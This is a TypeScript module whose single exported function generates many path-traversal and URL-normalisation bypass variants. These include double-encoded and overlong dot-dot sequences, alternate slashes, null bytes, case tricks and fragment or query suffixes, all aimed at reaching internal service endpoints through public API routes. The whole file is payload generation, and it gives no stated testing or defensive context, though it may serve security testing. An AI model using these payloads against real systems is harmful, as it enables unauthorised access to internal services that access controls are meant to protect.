/** What an address for services may be hidden behind. */
export interface Hidden {
  /** of a service, such as `sales` */
  readonly service: string;
  /** of its endpoint, such as `/stock` */
  readonly path: string;
}

/** Ways of writing a step up, or of ending a step, that one program or another takes for it. */
const stepsUp = ['..', '%2e%2e', '%2E.', '.%2e', '%252e%252e', '..;', '..%00', '%c0%ae%c0%ae', '.%09.'];
const separators = ['/', '\\', '%2f', '%5c', '%5C', '%252f', '%255c', '//', '/./', '%c0%af', '%ef%bc%8f'];
/** What follows, so that the address still looks like one of the public API. */
const ends = ['', '#/messages', '%23/messages', '?/messages', ';/messages', '%00/messages'];
/** Where public addresses have room for a name. */
const rooms: readonly (readonly [start: string, depth: number])[] = [
  ['/api/v1/inquiries/', 1],
  ['/api/v1/catalog/products/', 2],
  ['/api/v1/', 0],
  ['/image/card/', 2],
  ['/file/', 1],
];

/** Targets that would reach a service's own endpoint if any program on their way read them as it likes. */
export function pathTricks({ service, path }: Hidden): string[] {
  const whole = `/internal/${service}${path}`;
  const straight = [
    whole,
    `/${whole}`,
    `/api/v1${whole}`,
    `/api/v1${path}`,
    `/api/v1/${service}${path}`,
    `/INTERNAL/${service}${path}`,
    `/%69nternal/${service}${path}`,
    `/internal%2f${service}${path}`,
    `/.${whole}`,
    `/x/..${whole}`,
    `\\internal\\${service}${path.replaceAll('/', '\\')}`,
  ];
  const climbing = rooms.flatMap(([start, depth], room) =>
    stepsUp.flatMap((up, step) =>
      separators
        // every pair once, in the first room; each of the others with some of them
        .filter((_, at) => room === 0 || at % stepsUp.length === (step + room) % stepsUp.length)
        .map(
          (between, at) =>
            start + (up + between).repeat(depth) + path.slice(1) + ends[(at + step) % ends.length],
        ),
    ),
  );
  const wholly = separators.flatMap((between) =>
    rooms.map(([start]) => start + ['..', '..', '..', 'internal', service].join(between) + path),
  );
  return [...new Set([...straight, ...climbing, ...wholly])];
}
